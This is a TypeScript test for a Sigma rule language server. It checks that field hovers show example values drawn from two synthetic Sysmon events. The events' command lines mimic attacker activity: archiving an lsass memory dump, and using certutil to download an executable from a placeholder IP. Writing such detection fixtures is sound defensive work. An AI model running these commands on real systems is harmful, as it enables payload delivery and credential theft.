import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { HoverRequest, type Hover, type MarkupContent } from 'vscode-languageserver-protocol/node';
import { PROCESS_RULE } from './fixtures/rules';
import { buildServer, TestClient } from './support/lsp-client';
import { positionOf } from './support/positions';

const MANIFEST = 'files:\n  - path: events.jsonl\n    logsource:\n      product: windows\n    format: evtx-json\n';

/** A Sysmon process creation in the evtx_dump shape of the bundled library, so the server flattens and classifies it. */
function sysmonProcess(image: string, commandLine: string): string {
  const system = { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS07.corp.example.com' };
  return JSON.stringify({ Event: { System: system, EventData: { Image: image, CommandLine: commandLine, ParentImage: 'C:\\Windows\\explorer.exe' } } });
}

describe('language server over stdio: field hovers with values from the sample library', function () {
  let root: string;
  let client: TestClient;

  before(async function () {
    this.timeout(60_000);
    buildServer();
    root = mkdtempSync(path.join(tmpdir(), 'sigma-examples-'));
    mkdirSync(path.join(root, 'scenario'));
    writeFileSync(path.join(root, 'scenario', 'manifest.yml'), MANIFEST);
    const events = [sysmonProcess('C:\\Tools\\7za.exe', '7za.exe a out.7z lsass.dmp'), sysmonProcess('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://203.0.113.9/a.exe')];
    writeFileSync(path.join(root, 'scenario', 'events.jsonl'), events.join('\n') + '\n');
    // A baseline path that does not exist keeps the bundled baseline out, so every example comes from the two events above.
    const settings = { replay: { samples: [path.join(root, 'scenario')], baseline: path.join(root, 'no-baseline') } };
    client = await TestClient.start({ settings, workspaceFolders: [{ uri: pathToFileURL(root).href, name: 'examples' }] });
  });

  after(async () => {
    await client?.stop();
    if (root) rmSync(root, { recursive: true, force: true });
  });

  it('shows the values the field takes in the sample events under the taxonomy text, once the library is read', async () => {
    const uri = 'file:///virtual/examples.yml';
    await client.open(uri, PROCESS_RULE);
    await client.waitForDiagnostics(uri);
    assert.match(await client.waitForLog(/^Sample library: field examples from 2 events/), /in \d+ ms$/);
    const hover = (await client.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: positionOf(PROCESS_RULE, 'Image|endswith', { offset: 1 }) })) as Hover | null;
    const markdown = (hover?.contents as MarkupContent | undefined)?.value ?? '';
    assert.match(markdown, /\*\*Field\*\* `Image`/);
    assert.match(markdown, /_taxonomy: [^\n]*_\n\nExamples from the sample library: `C:\\Tools\\7za\.exe`, `C:\\Windows\\System32\\certutil\.exe`$/);
  });
});
